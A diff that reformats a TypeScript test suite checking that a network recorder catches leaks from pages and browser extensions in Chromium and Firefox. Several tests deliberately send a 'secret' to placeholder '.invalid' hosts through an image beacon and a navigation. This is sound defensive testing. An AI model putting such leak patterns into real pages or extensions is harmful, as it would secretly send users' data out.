@@ -18,7 +18,12 @@ describe.each<BrowserName>(['chromium', 'firefox'])('the network recorder in %s'
     const seen: string[] = [];
     for (let i = 0; i < 50 && !want.every((w) => seen.some((s) => s.includes(w))); i++) {
       await sleep(100);
-      seen.push(...recorder.take().map((r) => r.request).filter((r) => !browserOwn(r)));
+      seen.push(
+        ...recorder
+          .take()
+          .map((r) => r.request)
+          .filter((r) => !browserOwn(r)),
+      );
     }
     return seen;
   };
@@ -29,7 +34,9 @@ describe.each<BrowserName>(['chromium', 'firefox'])('the network recorder in %s'
       new Image().src = 'http://page-leak.invalid/pixel.png?text=secret';
     });
     const seen = await leaked(['CONNECT page-leak.invalid:443', 'GET http://page-leak.invalid/pixel.png?text=secret']);
-    expect(seen).toEqual(expect.arrayContaining(['CONNECT page-leak.invalid:443', 'GET http://page-leak.invalid/pixel.png?text=secret']));
+    expect(seen).toEqual(
+      expect.arrayContaining(['CONNECT page-leak.invalid:443', 'GET http://page-leak.invalid/pixel.png?text=secret']),
+    );
   });
 
   it('finds that an extension page may load nothing from outside: its content security policy refuses it first', async () => {
@@ -53,13 +60,20 @@ describe.each<BrowserName>(['chromium', 'firefox'])('the network recorder in %s'
     expect(refused).toEqual({ fetched: 'refused', image: 'refused', violations: ['connect-src', 'img-src'] });
     // Refused in the page, before any request: the recorder has nothing.
     await sleep(1000);
-    expect((await networkRecorder()).take().map((r) => r.request).filter((r) => !browserOwn(r))).toEqual([]);
+    expect(
+      (await networkRecorder())
+        .take()
+        .map((r) => r.request)
+        .filter((r) => !browserOwn(r)),
+    ).toEqual([]);
   });
 
   it('sees an extension page that reaches out where the policy cannot stop it (a navigation)', async () => {
     const control = await openControl(s.browser, s.server.url(''));
     await control.page.evaluate(() => void (location.href = 'http://extension-leak.invalid/report?text=secret'));
-    expect(await leaked(['GET http://extension-leak.invalid/report?text=secret'])).toContain('GET http://extension-leak.invalid/report?text=secret');
+    expect(await leaked(['GET http://extension-leak.invalid/report?text=secret'])).toContain(
+      'GET http://extension-leak.invalid/report?text=secret',
+    );
   });
 
   // Firefox runs the background as an event page, which a test cannot reach into.
@@ -74,6 +88,11 @@ describe.each<BrowserName>(['chromium', 'firefox'])('the network recorder in %s'
       expect(outcome).not.toBe('fetched');
       await sleep(1000);
       // (The page the last test opened may still ask for its favicon: only the worker's address counts.)
-      expect((await networkRecorder()).take().map((r) => r.request).filter((r) => r.includes('worker-leak'))).toEqual([]);
+      expect(
+        (await networkRecorder())
+          .take()
+          .map((r) => r.request)
+          .filter((r) => r.includes('worker-leak')),
+      ).toEqual([]);
     });
 });
